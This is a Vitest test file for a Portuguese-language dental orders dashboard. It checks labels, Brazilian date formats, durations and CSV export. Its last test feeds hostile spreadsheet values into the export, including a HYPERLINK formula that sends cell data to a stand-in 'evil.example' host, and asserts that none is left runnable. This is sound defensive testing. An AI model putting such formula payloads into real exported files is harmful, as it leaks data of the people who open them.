import { describe, expect, it } from 'vitest';
import type { Dashboard } from '../../contract/orders.contract';
import { dashboardView } from './dashboard';
import { readsAsFormula, spreadsheetCells } from '../../../test/support/spreadsheet';

const answer: Dashboard = {
  byStatus: { WAITING_FOR_APPROVAL: 4, PRODUCTION: 2 },
  late: 3,
  weeks: [
    { monday: '2026-11-09', entered: { PLANNING: 2 }, left: { PLANNING: 1 }, approvals: 1, rejections: 0 },
    { monday: '2026-11-16', entered: {}, left: {}, approvals: 0, rejections: 2 },
  ] as Dashboard['weeks'],
  spans: [
    { span: 'TO_PLANNING', count: 5, medianHours: 30.5, p90Hours: 73 },
    { span: 'TO_DECISION', count: 0, medianHours: null, p90Hours: null },
  ],
  rejectionReasons: [{ reason: 'Ajustar o IPR; e "mais" nada', count: 2 }],
};

describe('the dashboard as the staff read it', () => {
  it('words every figure in Portuguese, Brazilian dates and durations, never a code', () => {
    const view = dashboardView(answer);
    expect(view.late).toBe(3);
    expect(view.waiting).toBe(4);
    expect(view.tables.byStatus.rows).toContainEqual(['Aguardando aprovação', 4]);
    expect(view.tables.byStatus.rows).toContainEqual(['Recebido', 0]);
    expect(view.tables.byStatus.rows.some((r) => r[0] === 'Rascunho')).toBe(false);
    expect(view.tables.flows.rows[0]!.slice(0, 5)).toEqual(['Semana de 09/11/2026', 0, 0, 2, 1]);
    expect(view.tables.spans.rows).toEqual([
      ['Do recebimento ao planejamento enviado', 5, '1 dia e 6 horas', '3 dias e 1 hora'],
      ['Do planejamento enviado à decisão do dentista', 0, '—', '—'],
      ['Da aprovação ao envio', 0, '—', '—'],
    ]);
    expect(view.tables.decisions.rows).toEqual([
      ['Semana de 09/11/2026', 1, 0],
      ['Semana de 16/11/2026', 0, 2],
    ]);
    const text = JSON.stringify(view.tables);
    expect(text).not.toMatch(/[A-Z]{2,}_[A-Z]+|\d{4}-\d{2}-\d{2}/);
  });

  it('gives each table as a CSV of the same rows, quoted where a cell needs it', () => {
    const { reasons, decisions } = dashboardView(answer).tables;
    expect(reasons.fileName).toBe('painel-motivos-de-revisao.csv');
    expect(reasons.csv).toBe('\ufeffMotivo;Vezes\n"Ajustar o IPR; e ""mais"" nada";2\n');
    expect(decisions.csv.split('\n').slice(1, 3)).toEqual(['Semana de 09/11/2026;1;0', 'Semana de 16/11/2026;0;2']);
  });

  it('writes no cell a spreadsheet would run as a formula, whatever reason a dentist gave', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?d="&A1;"Ver")', '+SUM(1;2)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', 'Ajustar o IPR'];
    const { reasons } = dashboardView({ ...answer, rejectionReasons: hostile.map((reason) => ({ reason, count: 1 })) }).tables;
    const cells = spreadsheetCells(reasons.csv);
    expect(cells.flat().filter(readsAsFormula)).toEqual([]);
    // Each reason is still there to read, as the dentist wrote it.
    expect(cells.slice(1).map((r) => r[0]!.replace(/^'/, ''))).toEqual(hostile);
  });
});
